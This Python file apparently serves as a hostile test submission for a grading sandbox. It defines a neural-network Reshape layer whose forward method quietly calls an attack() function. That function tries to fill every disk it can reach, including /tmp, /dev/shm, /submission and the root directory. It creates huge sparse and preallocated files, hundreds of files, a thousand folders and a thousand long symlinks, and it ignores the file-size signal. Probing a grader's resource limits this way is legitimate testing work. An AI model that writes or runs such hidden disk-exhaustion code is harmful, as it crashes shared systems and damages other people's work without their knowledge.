"""Fill every disk: with a large file, many files, a sparse one, links and folders.

Deserves: ex03/forward 2, ex03/backward 2
Limits: disk=8 file_size=4
"""

import os
import signal

import numpy as np

signal.signal(signal.SIGXFSZ, signal.SIG_IGN)


def attack():
    for folder in ("/tmp", "/dev/shm", "/var/tmp", "/submission", "/kit", ".", "/"):
        path = os.path.join(folder, "attack-was-here")
        for act in (
            lambda path: os.truncate(os.open(path, os.O_CREAT | os.O_WRONLY), 10**13),
            lambda path: os.posix_fallocate(os.open(path, os.O_CREAT | os.O_WRONLY), 0, 10**9),
            lambda path: [open(f"{path}-{i}", "wb").write(bytes(10**6)) for i in range(100)],
            lambda path: [os.mkdir(f"{path}-folder-{i}") for i in range(1000)],
            lambda path: [os.symlink("/" * 4000, f"{path}-link-{i}") for i in range(1000)],
        ):
            try:
                act(path)
            except (OSError, ValueError):
                continue


class Reshape:
    def __init__(self, input_shape, output_shape):
        self.input_shape, self.output_shape = input_shape, output_shape

    def forward(self, input, training=False):
        attack()
        return np.reshape(input, self.output_shape)

    def backward(self, output_gradient, learning_rate):
        return np.reshape(output_gradient, self.input_shape)
